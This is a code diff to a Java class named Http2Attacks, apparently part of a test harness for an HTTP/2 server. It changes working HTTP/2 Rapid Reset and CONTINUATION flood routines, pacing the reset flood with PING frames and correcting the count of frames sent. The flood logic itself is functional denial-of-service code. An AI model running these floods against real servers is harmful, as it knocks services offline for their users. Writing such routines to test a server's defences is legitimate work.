@@ -33,26 +33,43 @@ public final class Http2Attacks {
 
     /**
      * Opens {@code requests} streams, each a complete GET of {@code path} at once followed by its
-     * RST_STREAM (CANCEL): requests that cost the server work and the client nothing.
+     * RST_STREAM (CANCEL): requests that cost the server work and the client nothing. They go in
+     * chunks of {@value #PAIRS_PER_WRITE}, each ended by a PING whose answer the next one waits for.
      */
     public static RawH2.Flood rapidReset(RawH2 client, String path, int requests, Duration bound) {
-        int[] sent = {0, 0}; // handed out, in the last chunk
+        int[] sent = {0, 0, 0}; // handed out, surely written (all before this call), chunks
         RawH2.Flood flood = client.flood(() -> {
-            if (sent[0] >= requests) {
+            sent[1] = sent[0];
+            if (sent[0] >= requests || !pingAnswered(client, sent[2])) {
                 return null;
             }
+            sent[2]++;
             ByteArrayOutputStream chunk = new ByteArrayOutputStream();
-            sent[1] = 0;
-            for (int i = 0; i < PAIRS_PER_WRITE && sent[0] < requests; i++, sent[0]++, sent[1]++) {
+            for (int i = 0; i < PAIRS_PER_WRITE && sent[0] < requests; i++, sent[0]++) {
                 int id = client.nextStreamId();
                 Http2Headers headers = client.requestHeaders("GET", path);
                 chunk.writeBytes(RawH2.frame(RawH2.HEADERS, RawH2.END_HEADERS | RawH2.END_STREAM, id,
                         client.headerBlock(id, headers)));
                 chunk.writeBytes(RawH2.rstStream(id, RawH2.CANCEL));
             }
+            chunk.writeBytes(RawH2.ping());
             return chunk.toByteArray();
         }, bound);
-        return flood.counting(flood.finished() ? sent[0] : sent[0] - sent[1]); // the refused chunk may not have gone
+        return flood.counting(sent[1]);
+    }
+
+    /**
+     * Waits for the PING that ended the previous chunk to be answered: the attack runs at the pace of
+     * the round trip, so the server has read nearly all of it when it closes the connection, closes
+     * cleanly and its GOAWAY can be read (a close with unread bytes would reset the connection).
+     */
+    private static boolean pingAnswered(RawH2 client, long pings) {
+        try {
+            return client.awaitPingAcks(pings, Duration.ofSeconds(5));
+        } catch (InterruptedException e) {
+            Thread.currentThread().interrupt();
+            return false;
+        }
     }
 
     /**
@@ -66,8 +83,9 @@ public final class Http2Attacks {
         byte[] start = RawH2.frame(RawH2.HEADERS, RawH2.END_STREAM, id,
                 client.headerBlock(id, client.requestHeaders("GET", path)));
         byte[] continuation = RawH2.frame(RawH2.CONTINUATION, 0, id, filler(frameSize));
-        int[] sent = {-1, 0}; // handed out (-1: not even the HEADERS), in the last chunk
+        int[] sent = {-1, 0}; // handed out (-1: not even the HEADERS), surely written (all before this call)
         RawH2.Flood flood = client.flood(() -> {
+            sent[1] = Math.max(0, sent[0]);
             if (sent[0] < 0) {
                 sent[0] = 0;
                 return start;
@@ -77,14 +95,13 @@ public final class Http2Attacks {
             }
             int n = Math.min(FRAMES_PER_WRITE, frames - sent[0]);
             sent[0] += n;
-            sent[1] = n;
             ByteArrayOutputStream chunk = new ByteArrayOutputStream(n * continuation.length);
             for (int i = 0; i < n; i++) {
                 chunk.writeBytes(continuation);
             }
             return chunk.toByteArray();
         }, bound);
-        return flood.counting(flood.finished() ? sent[0] : Math.max(0, sent[0] - sent[1]));
+        return flood.counting(sent[1]);
     }
 
     /** {@code size} bytes of whole HPACK literal fields (without indexing, new name) {@code x-pad: a...}. */
